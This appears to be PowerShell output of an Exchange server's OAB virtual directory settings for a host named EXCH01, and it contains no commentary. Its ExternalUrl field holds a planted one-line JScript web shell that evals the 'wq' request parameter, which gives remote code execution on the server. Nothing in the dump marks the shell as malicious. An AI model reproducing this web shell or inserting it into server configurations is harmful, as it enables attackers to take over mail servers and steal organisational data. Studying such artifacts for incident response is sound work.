Name : OAB (Default Web Site)
PollInterval : 480
OfflineAddressBooks : 
RequireSSL : False
BasicAuthentication : False
WindowsAuthentication : True
OAuthAuthentication : True
MetabasePath : IIS://EXCH01.corp.contoso.com/W3SVC/1/ROOT/OAB
Path : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags : 
ExtendedProtectionSPNList : 
AdminDisplayVersion : Version 15.1 (Build 2106.2)
Server : EXCH01
InternalUrl : https://exch01.corp.contoso.com/OAB
InternalAuthenticationMethods : {WindowsIntegrated}
ExternalUrl : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["wq"],"unsafe");}</script>
ExternalAuthenticationMethods : {WindowsIntegrated}
AdminDisplayName : 
ExchangeVersion : 0.10 (14.0.100.0)
DistinguishedName : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=contoso,DC=com
Identity : EXCH01\OAB (Default Web Site)
Guid : 7d4c1f0a-93be-4e61-b2d8-5f0e6a1c2b47
ObjectCategory : corp.contoso.com/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged : 3/3/2021 6:41:12 AM
WhenCreated : 11/14/2019 2:05:33 PM
WhenChangedUTC : 3/3/2021 2:41:12 PM
WhenCreatedUTC : 11/14/2019 10:05:33 PM
OrganizationId : 
Id : EXCH01\OAB (Default Web Site)
OriginatingServer : DC01.corp.contoso.com
IsValid : True
ObjectState : Changed
RunspaceId : 2b9f6e43-0d1c-4a8e-9c55-a1e07b3f6d28
MaxSessionTimeoutMinutes : 
AuthenticationMethods : {WindowsIntegrated}
ExternalAuthenticationMethodsWritable : True
OABVirtualDirectoryFlags : None
DisplayName : OAB
